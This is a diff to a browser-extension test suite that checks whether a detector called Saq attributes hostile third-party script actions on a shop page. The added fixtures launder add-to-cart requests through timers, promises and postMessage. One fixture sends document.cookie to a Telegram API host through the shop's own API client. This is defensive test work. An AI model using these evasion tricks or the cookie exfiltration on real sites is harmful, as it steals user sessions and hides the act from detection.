@@ -9,7 +9,7 @@ import type { Page } from 'puppeteer';
 import { expect, it } from 'vitest';
 import { pollPage } from '../helpers/harness.ts';
 import { HELPER_CDN, TELEGRAM } from '../helpers/hostile/main-world.ts';
-import { describeEachBrowser } from './each-browser.ts';
+import { describeEachBrowser, eventually } from './each-browser.ts';
 import { describeVerdicts, maybeVerdict, recordCase, settleAndListLoud, sharedBrowser, verdictOf, visit } from './sensors-main-support.ts';
 
 /**
@@ -186,4 +186,81 @@ describeEachBrowser('attribution through timer chains', (context) => {
       expect(found[via]?.finding.actor.type, via).not.toBe('page');
     }
   });
+});
+
+/**
+ * The shop's own code as a helper can borrow it: an add-to-cart function, one that waits for a token first, an API
+ * client that posts what it is given, and a message handler that adds to the cart.
+ */
+const SHOP_LIBRARY = `function cartPost(qty) {
+  return fetch('/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' },
+    body: JSON.stringify({ productId: 'p-102', qty: qty > 0 && qty < 10 ? qty : 1 }) });
+}
+window.shopAddToCart = function (qty) { return cartPost(qty); };
+window.shopAddToCartAsync = async function (qty) { await Promise.resolve('token'); return cartPost(qty); };
+window.shopApi = { post: function (url, data) { return fetch(url, { method: 'POST', mode: 'no-cors', body: String(data) }); } };
+window.addEventListener('message', function (e) {
+  if (e.origin === location.origin && e.data && e.data.type === 'shop:add') window.shopAddToCart(e.data.qty);
+});`;
+
+/**
+ * Open gap (docs/security.md, "What Saq cannot see"): a helper that has the shop's own code act for it across an
+ * async boundary leaves no frame of its own on the stack, and the act is the shop's (or nobody's). Recorded in the
+ * detection table, not asserted: [route, the helper's code, the request it makes, what it does].
+ */
+const LAUNDERED: Array<[string, string, 'cart' | 'telegram', string]> = [
+  ['timer', 'setTimeout(shopAddToCart, 0, 1);', 'cart', "the shop's add-to-cart run by a timer"],
+  ['promise', 'Promise.resolve(1).then(shopAddToCart);', 'cart', "the shop's add-to-cart run by a promise"],
+  ['message', "window.postMessage({ type: 'shop:add', qty: 1 }, '*');", 'cart', "the shop's own message handler asked to add"],
+  ['async-shop', 'shopAddToCartAsync(1);', 'cart', "the shop's add-to-cart that waits for a token first"],
+  [
+    'bound-fetch',
+    "setTimeout(fetch, 0, '/api/cart/items', { method: 'POST', credentials: 'include', headers: { 'Content-Type': 'application/json' }, body: JSON.stringify({ productId: 'p-102', qty: 1 }) });",
+    'cart',
+    'fetch itself handed to a timer',
+  ],
+  [
+    'api-client',
+    `setTimeout(shopApi.post, 0, '${TELEGRAM}/laundered', document.cookie || 'sid=?');`,
+    'telegram',
+    "the shop's API client sends the cookie, from a timer",
+  ],
+];
+
+describeEachBrowser('attribution across async boundaries (an open gap, recorded)', (context) => {
+  const browser = sharedBrowser(context);
+  for (const [route, code, sends, caseName] of LAUNDERED)
+    it(`records a helper laundering its act through the shop's code: ${caseName}`, async ({ task }) => {
+      context.shop.setFixture('/assets/shop-library.js', SHOP_LIBRARY, { contentType: 'text/javascript' });
+      context.shop.setFixture(`/laundered-${route}.js`, `(function () { ${code} })();`, {
+        host: HELPER_CDN,
+        contentType: 'text/javascript',
+      });
+      context.shop.setFixture(
+        `/kz/laundered-${route}`,
+        page('/assets/shop-library.js').replace('</body>', `<script src="https://${HELPER_CDN}/laundered-${route}.js"></script></body>`),
+      );
+      const before = context.shop.requests.length;
+      const saq = await browser();
+      const { tabId } = await visit(saq, `/kz/laundered-${route}`);
+      // The helper did act: what is recorded is what Saq made of it, not a page that never ran.
+      await eventually(
+        async () =>
+          context.shop.requests
+            .slice(before)
+            .some((r) => (sends === 'cart' ? r.method === 'POST' && r.path.startsWith('/api/cart/items') : r.host === 'api.telegram.org')),
+        (sent) => sent,
+        `the helper's ${sends} request`,
+      );
+      const named = (await settleAndListLoud(saq, tabId)).filter(
+        (v) => v.ruleId.startsWith(sends === 'cart' ? 'SAQ-CART-' : 'SAQ-EXF-') && v.finding.actor.type !== 'page',
+      );
+      recordCase(task, {
+        behaviour: sends === 'cart' ? 'cart burst' : 'exfiltration',
+        case: `laundered: ${caseName}`,
+        malicious: true,
+        flagged: named.length > 0,
+        browser: context.browserName,
+      });
+    });
 });
